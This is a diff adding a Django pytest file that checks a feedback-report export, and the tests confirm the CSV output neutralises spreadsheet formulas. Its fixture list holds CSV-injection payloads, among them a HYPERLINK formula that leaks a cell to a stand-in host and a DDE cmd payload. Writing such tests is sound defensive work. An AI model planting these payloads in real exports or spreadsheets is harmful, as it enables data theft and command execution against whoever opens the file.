@@ -1,0 +1,249 @@
+"""Reports as a file: JSONL exact, CSV safe, streamed as they are read, refused before the first byte."""
+
+import csv
+import io
+import json
+import tracemalloc
+
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+
+from feedback import exporting, taxonomy
+from feedback.models import UserFeedback
+from tests import make
+from tests.conftest import data_of, refusal_of
+
+EXPORT = "admin/feedback/export"
+HOSTILE = [
+    '=HYPERLINK("http://elsewhere.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+    'a "quoted", cell\r\nof two lines',
+    "a,b;c\t\u2028☃ \U0001f9f5",
+    "\u202eevil",
+    "plain",
+    "'=already",
+]
+
+
+@pytest.fixture
+def thread(who):
+    return make.conversation(who.alice, 40, visibility="org")
+
+
+@pytest.fixture
+def act(api):
+    def done(feedback_id, verb, **arguments):
+        return data_of(
+            api("admin").post(f"admin/feedback/{feedback_id}/actions", {"verb": verb, "arguments": arguments})
+        )
+
+    return done
+
+
+@pytest.fixture
+def exported(api):
+    """`exported(format="csv", q=...)`: the bytes of the file."""
+
+    def asked(**query):
+        response = api("admin").client.get(
+            f"/v1/ai/{EXPORT}", query, headers={"Authorization": api("admin").headers["Authorization"]}
+        )
+        assert response.status_code == 200 and response.streaming
+        return b"".join(response.streaming_content)
+
+    return asked
+
+
+def many(who, thread, count):
+    """That many reports, without a message for each of them."""
+    rows = [
+        UserFeedback(
+            thread=thread,
+            message_sequence_num=1000 + place,
+            org=who.acme,
+            created_by=who.alice.user,
+            modified_by=who.alice.user,
+            sentiment="negative",
+            categories=["slow"],
+            category_bits=taxonomy.bits(["slow"]),
+            notes=f"Number {place} " + "x" * 200,
+        )
+        for place in range(count)
+    ]
+    UserFeedback.objects.bulk_create(rows, batch_size=500)
+
+
+def rows_of(content):
+    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))
+
+
+def test_jsonl_holds_what_the_desk_knows_newest_first(who, api, thread, act, exported):
+    given = [make.rating(who.alice, thread, index, notes=f"Report {index}").feedback_id for index in (1, 3, 5)]
+    act(given[0], "duplicate", duplicate_of=given[1])
+    act(given[1], "label", add=["money", "bags"])
+    act(given[1], "own", owner="me")
+    act(given[2], "reply", public_reply="Row 12.")
+    found = [json.loads(line) for line in exported().splitlines()]
+    assert [each["feedback_id"] for each in found] == given[::-1]
+    for each in found:
+        record = data_of(api("admin").get(f"admin/feedback/{each['feedback_id']}/triage"))
+        assert {key: value for key, value in record.items() if key not in ("lease", "version")} == each
+    assert exported().endswith(b"}\n")
+
+
+@pytest.mark.parametrize("said", HOSTILE)
+def test_what_people_write_comes_back_and_is_no_formula(who, thread, act, exported, said):
+    """In the submitter's notes, in the admins' note, label and reply; JSONL has it as it was written."""
+    report = make.rating(who.alice, thread, 1, notes=said).feedback_id
+    act(report, "note", admin_note=said)
+    act(report, "reply", public_reply=said)
+    [line] = [json.loads(line) for line in exported(format="jsonl").splitlines()]
+    assert line["notes"] == line["admin_note"] == line["public_reply"] == said
+    [row] = rows_of(exported(format="csv"))
+    for name in ("notes", "admin_note", "public_reply"):
+        is_formula = said.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
+        assert row[name] == (f"'{said}" if is_formula else said)
+        assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_labels_and_names_are_no_formulas_either(who, thread, act, exported):
+    report = make.rating(who.alice, thread, 1).feedback_id
+    act(report, "label", add=["=1+1", "b"])
+    [row] = rows_of(exported(format="csv"))
+    assert (row["admin_label"], row["labels"]) == ("'=1+1, b", "'=1+1, b")
+
+
+def test_csv_is_rfc_4180_and_tells_its_columns(who, thread, exported):
+    make.rating(who.alice, thread, 1, categories=["slow", "unsafe"], notes='He said "no", twice')
+    content = exported(format="csv")
+    head, row = content.decode().split("\r\n")[:2]
+    columns = head.split(",")
+    assert columns[:3] == ["feedback_id", "thread_id", "message_sequence_num"]
+    assert {"notes", "labels", "owner", "outcome", "duplicate_of", "public_reply"} <= set(columns)
+    assert "lease" not in columns and "version" not in columns
+    assert ',"slow, unsafe","He said ""no"", twice",' in row
+    assert content.endswith(b"\r\n") and content.count(b"\r\n") == 2
+    [found] = rows_of(content)
+    assert (found["resolved"], found["resolved_at"], found["owner"]) == ("false", "", "")
+    assert found["created"].endswith("Z")
+
+
+def test_csv_starts_with_the_mark_of_utf8_where_it_is_asked_for(who, thread, exported):
+    make.rating(who.alice, thread, 1, notes="☃")
+    plain, marked = exported(format="csv"), exported(format="csv", bom="true")
+    assert marked == b"\xef\xbb\xbf" + plain
+    assert not exported(format="jsonl", bom="true").startswith(b"\xef")
+
+
+def test_a_query_chooses_and_none_is_an_empty_file(who, thread, exported):
+    make.rating(who.alice, thread, 1, notes="Wrong seat")
+    make.rating(who.alice, thread, 3, sentiment="positive")
+    assert len(exported(q="sentiment:negative").splitlines()) == 1
+    assert exported(q="seat AND nowhere") == b""
+    assert exported(q="label:none-such", format="csv").count(b"\r\n") == 1
+
+
+@pytest.mark.parametrize(
+    ("query", "named"),
+    [
+        ("format=xlsx", "format"),
+        ("q=lable:x", "lable"),
+        ("q=is:", "is:"),
+        ("format=csv&q=(", "q:"),
+        ("bom=maybe", "bom"),
+    ],
+)
+def test_what_is_wrong_is_told_before_any_byte(api, browser_of, query, named):
+    status, code, said = refusal_of(api("admin").get(f"{EXPORT}?{query}"))
+    assert (status, code) == (400, "RobotoInvalidRequestException") and named in said
+    page = browser_of("admin").get(f"/feedback/export/?{query}")
+    assert page.status_code == 400 and "Content-Disposition" not in page.headers
+
+
+@pytest.mark.parametrize(
+    ("form", "kind"),
+    [("csv", "text/csv; charset=utf-8"), ("jsonl", "application/x-ndjson"), ("", "application/x-ndjson")],
+)
+def test_both_doors_give_a_file_with_a_name(who, thread, api, browser_of, form, kind):
+    make.rating(who.alice, thread, 1)
+    answers = [api("admin").get(f"{EXPORT}?format={form}"), browser_of("admin").get(f"/feedback/export/?format={form}")]
+    assert len({b"".join(answer.streaming_content) for answer in answers}) == 1
+    for answer in answers:
+        assert answer["Content-Type"] == kind
+        assert answer["Content-Disposition"].startswith('attachment; filename="feedback-2')
+        assert answer["Content-Disposition"].endswith(f'.{form or "jsonl"}"')
+        assert answer["X-Content-Type-Options"] == "nosniff"
+        assert "no-store" in answer["Cache-Control"]
+
+
+def test_the_first_bytes_come_before_the_last_report_is_read(who, thread, api, monkeypatch):
+    """What is taken back meanwhile and was not read yet is not in the file any more."""
+    monkeypatch.setattr(exporting, "_FIRST", 2)
+    for index in (1, 3, 5, 7):
+        make.rating(who.alice, thread, index)
+    oldest = UserFeedback.objects.earliest("pk").feedback_id
+    response = api("admin").get(EXPORT)
+    pieces = iter(response.streaming_content)
+    begun = next(pieces)
+    assert begun.count(b"\n") == 2
+    assert api("alice").request("DELETE", f"threads/{thread.thread_id}/messages/1/feedback").status_code == 200
+    rest = b"".join(pieces)
+    assert rest.count(b"\n") == 1 and oldest.encode() not in begun + rest
+
+
+def test_reports_that_arrive_meanwhile_neither_repeat_nor_hide_others(who, thread, api, monkeypatch):
+    monkeypatch.setattr(exporting, "_FIRST", 1)
+    monkeypatch.setattr(exporting, "_CHUNK", 1)
+    given = [make.rating(who.alice, thread, index).feedback_id for index in (1, 3, 5)]
+    found = []
+    for place, piece in enumerate(api("admin").get(EXPORT).streaming_content):
+        found.append(json.loads(piece)["feedback_id"])
+        make.rating(who.bob, thread, 2 * place + 1)
+    assert found == given[::-1]
+
+
+def test_ten_times_the_reports_in_a_stretch_cost_no_more_queries(who, thread, exported):
+    many(who, thread, 3)
+    exported()  # a token's first use is noted
+    with CaptureQueriesContext(connection) as few:
+        exported()
+    many_more = UserFeedback.objects.count() * 10
+    UserFeedback.objects.all().delete()
+    many(who, thread, many_more)
+    with CaptureQueriesContext(connection) as more:
+        exported()
+    assert len(more) == len(few)
+
+
+def test_memory_does_not_grow_with_the_reports(who, thread, monkeypatch):
+    monkeypatch.setattr(exporting, "_CHUNK", 100)
+
+    def peak():
+        tracemalloc.start()
+        size = sum(len(piece) for piece in exporting.export(who.admin.actor, "", "csv"))
+        found = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+        return found, size
+
+    many(who, thread, 200)
+    peak()  # what is compiled once
+    few, small = peak()
+    UserFeedback.objects.all().delete()
+    many(who, thread, 2000)
+    more, large = peak()
+    assert large > 9 * small
+    assert more < 1.3 * few, (few, more, large)
+
+
+@pytest.mark.parametrize("name", ["alice", "bob", "eve"])
+def test_the_file_is_for_admins(who, thread, api, browser_of, name):
+    make.rating(who.alice, thread, 1)
+    assert refusal_of(api(name).get(f"{EXPORT}?q=lable:x"))[0] == 403
+    assert browser_of(name).get("/feedback/export/").status_code == 403
+    assert browser_of(None).get("/feedback/export/").status_code == 302
